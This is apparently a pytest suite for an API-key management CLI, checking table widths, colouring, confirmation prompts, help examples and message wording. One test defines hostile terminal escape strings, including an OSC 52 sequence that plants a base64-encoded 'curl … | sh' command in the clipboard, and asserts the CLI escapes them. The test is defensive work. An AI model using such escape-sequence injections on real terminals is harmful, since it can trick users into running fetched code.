"""The CLI in a terminal and piped: sized, coloured tables, the app's state words, confirmations,
hints on stderr, examples in --help, and the wording every command shares."""

from __future__ import annotations

import io
import json
import re
import sys
import unicodedata
from contextlib import closing
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import text

from apikey_tui.cli import build_parser, main, subcommands
from apikey_tui.clock import system_clock
from apikey_tui.db.models import MINUTE, USAGE_ALLOWED, USAGE_FORBIDDEN, usage_minute
from apikey_tui.store import KeyStore
from apikey_tui.store.credentials import credential_source
from tests.conftest import ACTOR, CHEAP, FakeClock

SGR = re.compile(r"\x1b\[[0-9;]*m")
LONG = "production-inference-gateway-europe-frankfurt-eu-west-"  # 54 characters, then 1 or 2


class Terminal(io.StringIO):
    """A stream that says it is a terminal; as stdin it answers what it was given."""

    def isatty(self) -> bool:
        return True


def run(url: str, *args: str, owner: str = "alice") -> int:
    return main(["--database-url", url, "--owner", owner, *args])


def _terminal(monkeypatch: pytest.MonkeyPatch, answer: str = "") -> tuple[Terminal, Terminal]:
    """stdin, stdout and stderr all terminals; stdin holds the answer to any question."""
    out, err = Terminal(), Terminal()
    monkeypatch.setattr(sys, "stdin", Terminal(answer))
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", err)
    return out, err


@pytest.fixture
def keys_url(sqlite_url: str) -> str:
    """A database with two long names that differ only at the end, and a short one."""
    with closing(KeyStore.open(sqlite_url, hasher=CHEAP, actor=ACTOR)) as store:
        for name in (LONG + "1", LONG + "2", "ci"):
            store.create_key("alice", name, ["project"])
    return sqlite_url


def test_list_in_a_terminal_fits_its_width_and_keeps_both_ends_of_names(
    keys_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """At 80 columns each key is one line of at most 80, and two long names still differ."""
    monkeypatch.setenv("COLUMNS", "80")
    out, _ = _terminal(monkeypatch)
    assert run(keys_url, "keys", "list") == 0
    lines = SGR.sub("", out.getvalue()).splitlines()
    assert len(lines) == 4 and all(len(line) <= 80 for line in lines), lines
    names = [line.split()[0] for line in lines[1:]]
    assert len(set(names)) == 3 and any(n.endswith("eu-west-2") for n in names), names
    assert any("…" in n and n.startswith("production") for n in names)


def test_list_every_owner_at_80_columns_is_one_line_per_key(
    keys_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With --all (an owner column) at 80 columns rows fit: columns are dropped, not wrapped."""
    monkeypatch.setenv("COLUMNS", "80")
    out, _ = _terminal(monkeypatch)
    assert run(keys_url, "keys", "list", "--all") == 0
    lines = SGR.sub("", out.getvalue()).splitlines()
    assert lines[0].startswith("OWNER") and "STATE" in lines[0]
    assert len(lines) == 4 and all(len(line) <= 80 for line in lines)


def test_the_state_is_never_cut_in_a_terminal(
    keys_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """At 80 columns with every owner, a key expiring in 20 hours shows '⚠ 20h left' whole
    (the scopes column goes first), as the app shows it."""
    with closing(KeyStore.open(keys_url, hasher=CHEAP, actor=ACTOR)) as store:
        store.create_key(
            "svc-notebooks", "alice-notebook", ["project"], expires=timedelta(hours=20)
        )
    monkeypatch.setenv("COLUMNS", "80")
    out, _ = _terminal(monkeypatch)
    assert run(keys_url, "keys", "list", "--all") == 0
    lines = SGR.sub("", out.getvalue()).splitlines()
    assert all(len(line) <= 80 for line in lines), lines
    assert any("⚠ 20h left" in line for line in lines), lines


def test_state_is_coloured_in_a_terminal_unless_no_color(
    keys_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The state cell is coloured in a terminal; NO_COLOR leaves the same text uncoloured."""
    monkeypatch.setenv("COLUMNS", "200")
    out, _ = _terminal(monkeypatch)
    run(keys_url, "keys", "list")
    assert "\x1b[32mactive\x1b[0m" in out.getvalue()
    monkeypatch.setenv("NO_COLOR", "1")
    plain, _ = _terminal(monkeypatch)
    run(keys_url, "keys", "list")
    assert "\x1b[" not in plain.getvalue() and SGR.sub("", out.getvalue()) == plain.getvalue()


def test_piped_list_is_whole_plain_cells(
    keys_url: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Piped, rows hold whole names and no colour, however narrow COLUMNS says the terminal is."""
    monkeypatch.setenv("COLUMNS", "40")
    assert run(keys_url, "keys", "list") == 0
    out = capsys.readouterr().out
    assert LONG + "1" in out and LONG + "2" in out and "\x1b[" not in out
    assert out.splitlines()[0].split("  ")[0].strip() == "NAME"


def test_list_says_the_apps_state_for_unused_and_expiring_keys(
    sqlite_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """STATE and --json's state use store.states' words: unused, ⚠ …d left, not 'active'."""
    past = FakeClock(system_clock() - timedelta(days=91))
    with closing(KeyStore.open(sqlite_url, hasher=CHEAP, actor=ACTOR, clock=past)) as store:
        store.create_key("alice", "old", ["project"])
    with closing(KeyStore.open(sqlite_url, hasher=CHEAP, actor=ACTOR)) as store:
        store.create_key("alice", "soon", ["project"], expires=timedelta(days=3))
    assert run(sqlite_url, "keys", "list") == 0
    rows = {line.split()[0]: line for line in capsys.readouterr().out.splitlines()[1:]}
    assert "  unused  " in rows["old"]
    assert re.search(r"  ⚠ [23]d left  ", rows["soon"]), rows["soon"]
    run(sqlite_url, "keys", "list", "--json")
    states = {k["name"]: k["state"] for k in json.loads(capsys.readouterr().out)}
    assert states == {"old": "unused", "soon": "soon"}


def test_json_is_the_key_fields_plus_state(
    keys_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """--json keeps every field it had (KeyInfo.to_json) and adds only the state's kind."""
    with closing(KeyStore.open(keys_url)) as store:
        expected = [{**k.to_json(), "state": "active"} for k in store.list_keys("alice")]
    run(keys_url, "keys", "list", "--json")
    assert json.loads(capsys.readouterr().out) == expected
    run(keys_url, "keys", "show", "ci", "--json")
    assert json.loads(capsys.readouterr().out)["state"] == "active"


def test_limit_shows_the_first_keys_and_says_more_match(
    keys_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """--limit 2 prints two keys (JSON too) and says on stderr that more match."""
    assert run(keys_url, "keys", "list", "--limit", "2") == 0
    out, err = capsys.readouterr()
    assert len(out.splitlines()) == 3 and "first 2 keys; more match" in err
    run(keys_url, "keys", "list", "--limit", "3", "--json")
    out, err = capsys.readouterr()
    assert len(json.loads(out)) == 3 and err == ""


def test_empty_listing_prints_nothing_on_stdout(
    sqlite_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """No keys: the hint goes to stderr and stdout is empty (`| wc -l` counts 0)."""
    KeyStore.open(sqlite_url).close()
    assert run(sqlite_url, "keys", "list") == 0
    out, err = capsys.readouterr()
    assert out == "" and "No keys. Create one with" in err


def test_delete_in_a_terminal_asks_and_no_keeps_the_key(
    keys_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In a terminal delete asks, naming the key; Enter (no) keeps it and exits 1."""
    _, err = _terminal(monkeypatch, "\n")
    assert run(keys_url, "keys", "delete", "ci") == 1
    assert "Delete key 'ci' of alice (ak" in err.getvalue() and "[y/N]" in err.getvalue()
    assert "nothing was done" in err.getvalue()
    with closing(KeyStore.open(keys_url)) as store:
        assert store.get_key("alice", "ci").name == "ci"
    _terminal(monkeypatch, "y\n")
    assert run(keys_url, "keys", "delete", "ci") == 0
    with closing(KeyStore.open(keys_url)) as store:
        assert [k.name for k in store.list_keys("alice")] == [LONG + "1", LONG + "2"]


def test_yes_and_scripts_are_never_asked(
    keys_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """--yes deletes in a terminal without a question; without a terminal nothing is asked."""
    _, err = _terminal(monkeypatch)
    assert run(keys_url, "keys", "delete", "ci", "--yes") == 0
    assert "[y/N]" not in err.getvalue()
    monkeypatch.undo()
    assert run(keys_url, "keys", "delete", LONG + "1") == 0
    assert "[y/N]" not in capsys.readouterr().err


@pytest.mark.parametrize(
    "args",
    [["keys", "recreate", "ci"], ["keys", "rotate", "ci", "--grace", "1h"]],
    ids=["recreate", "rotate"],
)
def test_recreate_and_rotate_ask_in_a_terminal(
    keys_url: str, monkeypatch: pytest.MonkeyPatch, args: list[str]
) -> None:
    """Recreate and rotate ask first in a terminal; no leaves the key's secret as it was."""
    with closing(KeyStore.open(keys_url)) as store:
        before = store.get_key("alice", "ci").public_id
    out, err = _terminal(monkeypatch, "no\n")
    assert run(keys_url, *args) == 1
    assert "[y/N]" in err.getvalue() and out.getvalue() == ""
    with closing(KeyStore.open(keys_url)) as store:
        assert store.get_key("alice", "ci").public_id == before


def test_scan_disable_asks_in_a_terminal(
    sqlite_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """scan --disable names the live keys and asks; no leaves them enabled."""
    with closing(KeyStore.open(sqlite_url, hasher=CHEAP, actor=ACTOR)) as store:
        secret = store.create_key("alice", "ci", ["project"]).plaintext
    _, err = _terminal(monkeypatch, "n\n")
    path = tmp_path / "leak.txt"
    path.write_text(f"token = {secret}\n")
    assert main(["--database-url", sqlite_url, "scan", "--disable", str(path)]) == 1
    assert "alice/ci" in err.getvalue() and "Disable it as leaked?" in err.getvalue()
    assert "disable it with --disable" in err.getvalue()
    with closing(KeyStore.open(sqlite_url)) as store:
        assert not store.get_key("alice", "ci").disabled


def test_every_command_has_examples_in_its_help() -> None:
    """Each command's --help ends with examples that start with `apikey-tui` (or use it)."""
    for words, parser in subcommands(build_parser()):
        text = parser.format_help()
        assert "examples:\n  " in text, f"`apikey-tui {words}` has no examples"
        assert "apikey-tui" in text.split("examples:", 1)[1]


def test_the_keys_group_help_names_every_action(capsys: pytest.CaptureFixture[str]) -> None:
    """`apikey-tui --help` names every keys action on the keys line."""
    keys = dict(subcommands(build_parser()))["keys"]
    actions = [words for words, _ in subcommands(keys) if words]
    with pytest.raises(SystemExit):
        main(["--help"])
    out = " ".join(capsys.readouterr().out.split())
    line = out.split(" keys ", 1)[1].split(" policy ", 1)[0]
    assert all(re.search(rf"\b{re.escape(a)}\b", line) for a in actions), (actions, line)


def test_changes_say_what_they_did_in_one_wording(
    keys_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """scopes describe confirms, set-scopes and set-expiry print a sentence on stderr and no
    table; times read '… UTC', never 'Z'."""
    assert run(keys_url, "scopes", "describe", "project", "projects") == 0
    assert capsys.readouterr().err == "Described scope 'project'.\n"
    assert run(keys_url, "keys", "set-scopes", "ci", "--scope", "project") == 0
    out, err = capsys.readouterr()
    assert out == "" and err == "Key 'ci' of alice now has the scopes project.\n"
    assert run(keys_url, "keys", "set-expiry", "ci", "2099-01-31") == 0
    assert capsys.readouterr().err == "Key 'ci' of alice now expires at 2099-01-31 00:00:00 UTC.\n"
    # A moment past is bad input: a usage error, as a malformed one is.
    assert run(keys_url, "keys", "set-expiry", "ci", "2000-01-01") == 2
    assert "2000-01-01 00:00:00 UTC" in capsys.readouterr().err
    run(keys_url, "keys", "show", "ci")
    shown = capsys.readouterr().out
    assert "2099-01-31 00:00:00 UTC" in shown and not re.search(r"\d\dZ\b", shown)


# OSC 52 puts 'curl e.ex|sh' into tmux's clipboard; OSC 2 renames the pane.
HOSTILE_SCOPE = "\x1b]52;c;Y3VybCBlLmV4fHNo\x07x"
HOSTILE_USE = "\x1b]2;pwned\x07"


@pytest.mark.time_dependent
def test_usage_and_rightsize_escape_every_text_they_print(
    sqlite_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`keys usage` and `keys rightsize` in a terminal print a hostile scope name (in the key,
    in the usage rows and in a proposal) and public id escaped, never a raw control character."""
    past = FakeClock(system_clock() - timedelta(days=40))
    with closing(KeyStore.open(sqlite_url, hasher=CHEAP, actor=ACTOR, clock=past)) as store:
        store.create_key("alice", "svc", ["project"])
        public_id = "ak\x1b]2;id\x07"
        with store.engine.begin() as conn:  # rows an older version or a hand edit could leave
            conn.execute(
                text("INSERT INTO apikey_tui_scope (name, description) VALUES (:n, '')"),
                {"n": HOSTILE_SCOPE},
            )
            key_id = conn.execute(text("SELECT id FROM apikey_tui_key")).scalar_one()
            conn.execute(
                text("INSERT INTO apikey_tui_key_scope (key_id, scope) VALUES (:k, :s)"),
                {"k": key_id, "s": HOSTILE_SCOPE},
            )
            conn.execute(text("UPDATE apikey_tui_key SET public_id = :p"), {"p": public_id})
        now = usage_minute(system_clock())
        source = credential_source(store.engine)
        source.record_usage(
            [
                (public_id, now - 60, MINUTE, USAGE_ALLOWED, "project", 5),
                (public_id, now - 60, MINUTE, USAGE_ALLOWED, HOSTILE_USE, 2),
                (public_id, now - 60, MINUTE, USAGE_FORBIDDEN, HOSTILE_USE, 3),
            ]
        )
        source.close()
    out, _ = _terminal(monkeypatch)
    assert run(sqlite_url, "keys", "usage", "svc") == 0
    assert run(sqlite_url, "keys", "rightsize") == 0
    printed = out.getvalue()
    assert "drop \\x1b]52;c;" in printed and "\\x1b]2;pwned\\x07" in printed, printed
    raw = [ch for ch in printed if ch != "\n" and unicodedata.category(ch).startswith("C")]
    assert raw == [], printed


EU = "production-infrastructure-eu-west-2-primary-cluster"
US = "production-infrastructure-us-east-1-primary-cluster"


@pytest.mark.parametrize("columns", ["70", "80", "120"])
@pytest.mark.parametrize("every_owner", [False, True])
def test_list_shows_where_names_differ_in_the_middle_and_scopes_fairly(
    sqlite_url: str, monkeypatch: pytest.MonkeyPatch, columns: str, every_owner: bool
) -> None:
    """`keys list` at 70, 80 and 120 columns shows '…eu-west…' and '…us-east…' for two names
    that differ only in the middle, and a short-named key's scopes whole beside them."""
    with closing(KeyStore.open(sqlite_url, hasher=CHEAP, actor=ACTOR)) as store:
        for name in (EU, US, "ci"):
            store.create_key("alice", name, ["project", "serving"])
    monkeypatch.setenv("COLUMNS", columns)
    out, _ = _terminal(monkeypatch)
    assert run(sqlite_url, "keys", "list", *(["--all"] if every_owner else [])) == 0
    lines = SGR.sub("", out.getvalue()).splitlines()
    assert all(len(line) <= int(columns) for line in lines), lines
    assert any("eu-west" in x for x in lines) and any("us-east" in x for x in lines), lines
    if columns != "70":  # at 70 the scopes column is dropped whole, never cut to nothing
        ci = next(line for line in lines if " ci " in f" {line} ")
        assert "project,serving" in ci, lines
